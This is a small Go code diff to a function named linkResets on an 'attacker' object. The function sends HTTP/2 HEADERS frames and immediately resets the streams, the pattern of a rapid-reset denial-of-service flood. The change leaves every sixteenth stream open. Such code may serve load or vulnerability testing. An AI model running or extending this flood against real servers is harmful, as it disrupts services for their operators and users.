@@ -255,6 +255,9 @@ func linkResets(ctx context.Context, a *attacker) error {
 		if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: header, EndHeaders: true}); err != nil {
 			return err
 		}
+		if i%16 == 0 {
+			return nil // it stays, as a stream that does not begin
+		}
 		return c.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
 	})
 }
